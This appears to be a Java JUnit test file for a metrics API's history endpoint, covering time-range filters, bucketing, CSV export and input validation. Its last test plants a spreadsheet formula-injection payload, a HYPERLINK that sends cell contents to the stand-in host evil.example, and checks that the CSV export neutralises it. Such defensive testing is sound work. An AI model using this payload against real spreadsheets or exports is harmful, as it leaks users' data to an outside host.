package io.pulseboard.http;

import static io.pulseboard.http.PointsApiTest.batch;
import static io.pulseboard.http.PointsApiTest.point;
import static org.assertj.core.api.Assertions.assertThat;

import io.pulseboard.Http;
import io.pulseboard.RunningApp;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.junit5.VertxExtension;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;

@ExtendWith(VertxExtension.class)
class HistoryApiTest {
  @RegisterExtension
  static final RunningApp running = new RunningApp();
  private Http http;

  @BeforeEach
  void client(Vertx vertx) {
    http = new Http(vertx, running.port());
    http.postPoints(batch(
        point("weekly_users", "kr", "2025-09-01T00:00:00Z", 10),
        point("weekly_users", "kr", "2025-09-02T00:00:00Z", 20),
        point("weekly_users", "kr", "2025-09-09T00:00:00Z", 30),
        point("weekly_users", "kr", "2025-09-10T00:00:00Z", 40)));
  }

  @AfterEach
  void closeClient() {
    http.close();
  }

  private JsonArray points(JsonObject history, String region) {
    return history.getJsonArray("series").stream().map(JsonObject.class::cast)
        .filter(s -> region.equals(s.getJsonObject("labels").getString("region")))
        .findFirst().orElseThrow().getJsonArray("points");
  }

  @Test
  void gives_points_per_series_in_time_order() {
    JsonObject h = http.get("/api/v1/metrics/weekly_users/points").bodyAsJsonObject();
    assertThat(h.getJsonArray("series")).hasSize(2);
    JsonArray kr = points(h, "kr");
    assertThat(kr.stream().map(p -> ((JsonObject) p).getDouble("value"))).containsExactly(10.0, 20.0, 30.0, 40.0);
  }

  @Test
  void reads_a_percent_encoded_offset_in_a_time_bound_once() {
    // 2025-09-09T09:00:00+09:00 is 2025-09-09T00:00:00Z: the last two points, sent as a client
    // library encodes a plus sign.
    HttpResponse<Buffer> r = http.get("/api/v1/metrics/weekly_users/points?region=kr&from=2025-09-09T09:00:00%2B09:00");
    assertThat(r.statusCode()).as(r.bodyAsString()).isEqualTo(200);
    assertThat(points(r.bodyAsJsonObject(), "kr").stream().map(p -> ((JsonObject) p).getDouble("value")))
        .containsExactly(30.0, 40.0);
  }

  @Test
  void filters_by_time_range_and_label() {
    JsonObject h = http.get("/api/v1/metrics/weekly_users/points?region=kr"
        + "&from=2025-09-02T00:00:00Z&to=2025-09-09T00:00:00Z").bodyAsJsonObject();
    assertThat(h.getJsonArray("series")).hasSize(1);
    assertThat(points(h, "kr").stream().map(p -> ((JsonObject) p).getDouble("value"))).containsExactly(20.0, 30.0);
  }

  @Test
  void buckets_with_step_and_aggregate() {
    JsonObject sum = http.get("/api/v1/metrics/weekly_users/points?region=kr&step=P7D&agg=sum").bodyAsJsonObject();
    // Buckets start on Mondays: 2025-09-01 and 2025-09-08.
    assertThat(points(sum, "kr").stream().map(p -> ((JsonObject) p).getDouble("value"))).containsExactly(30.0, 70.0);
    assertThat(points(sum, "kr").getJsonObject(0).getString("ts")).isEqualTo("2025-09-01T00:00:00Z");
    JsonObject last = http.get("/api/v1/metrics/weekly_users/points?region=kr&step=P1W&agg=last").bodyAsJsonObject();
    assertThat(points(last, "kr").stream().map(p -> ((JsonObject) p).getDouble("value"))).containsExactly(20.0, 40.0);
  }

  @Test
  void gives_csv_when_asked() {
    HttpResponse<Buffer> r = http.get("/api/v1/metrics/weekly_users/points?region=kr", "Accept", "text/csv");
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(r.getHeader("Content-Type")).startsWith("text/csv");
    String[] lines = r.bodyAsString().split("\r\n");
    assertThat(lines[0]).isEqualTo("metric,ts,value,source,region");
    assertThat(lines[1]).isEqualTo("weekly_users,2025-09-01T00:00:00Z,10.0,,kr");
    assertThat(lines).hasSize(5);
  }

  @Test
  void rejects_a_label_filter_the_metric_does_not_have() {
    HttpResponse<Buffer> r = http.get("/api/v1/metrics/weekly_users/points?city=seoul");
    assertThat(r.statusCode()).isEqualTo(422);
    assertThat(r.bodyAsJsonObject().getJsonArray("errors").getJsonObject(0).getString("pointer")).isEqualTo("city");
  }

  @Test
  void rejects_a_two_month_step_and_an_unknown_aggregate() {
    // P1M, P3M and P1Y are calendar steps (CalendarBucketsTest); other month counts are refused.
    assertThat(http.get("/api/v1/metrics/weekly_users/points?step=P2M").statusCode()).isEqualTo(422);
    assertThat(http.get("/api/v1/metrics/weekly_users/points?step=P1D&agg=median").statusCode()).isEqualTo(422);
  }

  @Test
  void rejects_a_bad_time_bound() {
    HttpResponse<Buffer> r = http.get("/api/v1/metrics/weekly_users/points?from=yesterday");
    assertThat(r.statusCode()).isIn(400, 422);
    assertThat(r.getHeader("Content-Type")).isEqualTo("application/problem+json");
  }

  @Test
  void unknown_metric_is_404() {
    assertThat(http.get("/api/v1/metrics/nope/points").statusCode()).isEqualTo(404);
  }

  private static String pointer(HttpResponse<Buffer> r) {
    assertThat(r.statusCode()).isEqualTo(422);
    assertThat(r.getHeader("Content-Type")).isEqualTo("application/problem+json");
    return r.bodyAsJsonObject().getJsonArray("errors").getJsonObject(0).getString("pointer");
  }

  @Test
  void rejects_time_bounds_that_are_not_rfc_3339_naming_the_parameter() {
    assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?from=%2B10000-01-01T00:00:00Z"))).isEqualTo("from");
    assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?to=-0001-01-01T00:00:00Z"))).isEqualTo("to");
    assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?from=%2B002024-01-01T00:00:00Z"))).isEqualTo("from");
    assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?to=2025-09-01T00:00:00.0000001Z"))).isEqualTo("to");
  }

  @Test
  void takes_a_lower_case_t_and_z_in_a_time_bound() {
    JsonObject h = http.get("/api/v1/metrics/weekly_users/points?region=kr&from=2025-09-02t00:00:00z")
        .bodyAsJsonObject();
    assertThat(points(h, "kr")).hasSize(3);
  }

  @Test
  void rejects_a_label_filter_with_nul_or_text_that_is_not_utf8_naming_it() {
    for (String bad : List.of("%00", "k%00r", "%FF", "%ED%A0%80", "%C0%80")) {
      assertThat(pointer(http.get("/api/v1/metrics/weekly_users/points?region=" + bad))).as(bad).isEqualTo("region");
    }
  }

  @Test
  void gives_csv_without_live_formulas_and_with_plain_numbers() throws Exception {
    String label = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")";
    http.postPoints(batch(point("weekly_users", label, "2025-09-10T00:00:00Z", 7e8).put("source", "@SUM(1)")));
    HttpResponse<Buffer> r = http.get("/api/v1/metrics/weekly_users/points?region="
        + URLEncoder.encode(label, StandardCharsets.UTF_8), "Accept", "text/csv");
    List<List<String>> rows = CsvTest.read(r.bodyAsString());
    assertThat(rows.get(1)).containsExactly("weekly_users", "2025-09-10T00:00:00Z", "700000000.0", "'@SUM(1)",
        "'" + label);
  }
}
